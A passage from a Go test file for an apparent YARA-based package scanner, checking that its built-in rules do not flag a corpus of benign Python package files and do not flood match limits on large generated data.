        r = self.session.post(f"{API}/uploads", json={"data": data}, timeout=30)
        r.raise_for_status()
        return json.loads(r.text)["id"]
`},
	{"weatherly-0.4.1/setup.py", `
import os
import re

from setuptools import find_packages, setup

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "weatherly", "__init__.py")) as f:
    version = re.search(r'__version__ = "(.+?)"', f.read()).group(1)
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()

setup(
    name="weatherly",
    version=version,
    description="A small client for a JSON weather API",
    long_description=long_description,
    long_description_content_type="text/markdown",
    url="https://github.com/example/weatherly",
    packages=find_packages(exclude=["tests"]),
    python_requires=">=3.8",
    install_requires=["requests>=2.25"],
    entry_points={"console_scripts": ["weatherly=weatherly.cli:main"]},
    classifiers=["License :: OSI Approved :: MIT License"],
)
`},
	{"netutil-2.0/netutil/server.py", `
"""A line-based TCP server for tests."""
import getpass
import platform
import socket
import socketserver


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            self.wfile.write(line.upper())


def banner():
    return f"{getpass.getuser()}@{platform.node()} ({socket.gethostname()})"


def serve(port=0):
    with socketserver.TCPServer(("127.0.0.1", port), Handler) as srv:
        print(banner(), srv.server_address)
        srv.serve_forever()


def ping(host, port):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(b"ping\n")
        return s.recv(1024)
`},
	{"imgtool-0.9/imgtool/convert.py", `
import base64
import io
import os
import shutil
import subprocess
import zlib


def thumbnail(src, dest, size=128):
    subprocess.run(["convert", src, "-resize", f"{size}x{size}", dest], check=True)


def data_uri(path):
    with open(path, "rb") as f:
        return "data:image/png;base64," + base64.b64encode(f.read()).decode()


def unpack(blob):
    return io.BytesIO(zlib.decompress(base64.b64decode(blob)))


def install_fonts(dest):
    os.makedirs(dest, exist_ok=True)
    shutil.copy(os.path.join(os.path.dirname(__file__), "fonts", "Inter.ttf"), dest)
`},
}

func TestBenignCorpusMatchesNothing(t *testing.T) {
	rs := compileBuiltin(t)
	m := newMatcher(t, rs)
	for _, s := range benignCorpus {
		if matched, _ := matchNames(t, rs, m, s.path, s.src); len(matched) > 0 {
			t.Errorf("%s matched %v", s.path, matched)
		}
	}
}

// Generated modules can be large and repetitive. libyara fails a file once a
// string has matched a million times, so no string may match once per byte
// or per line of such data.
func TestLargeGeneratedDataDoesNotFloodMatches(t *testing.T) {
	rs := compileBuiltin(t)
	m := newMatcher(t, rs)
	var b strings.Builder
	// 1.2 million escaped bytes in one literal: a string that matched once
	// per escaped byte would exceed the limit.
	b.WriteString("import base64\nRESOURCE = b\"")
	b.WriteString(strings.Repeat("\\x00\\x01\\x02\\x89", 300000))
	b.WriteString("\"\nBLOB = \"")
	b.WriteString(strings.Repeat("QUJDREVGR0g=", 100000))
	b.WriteString("\"\nDATA = base64.b64decode(BLOB)\n")
	for i := 0; i < 50000; i++ {
		fmt.Fprintf(&b, "    model.eval()\n    x%d = chr(65) + chr(66)\n", i)
	}
	src := b.String()
	start := time.Now()
	matched, _ := matchNames(t, rs, m, "gen/resources.py", src)
	if len(matched) > 0 {
		t.Errorf("matched %v", matched)
	}
	t.Logf("%d bytes in %s", len(src), time.Since(start))
}
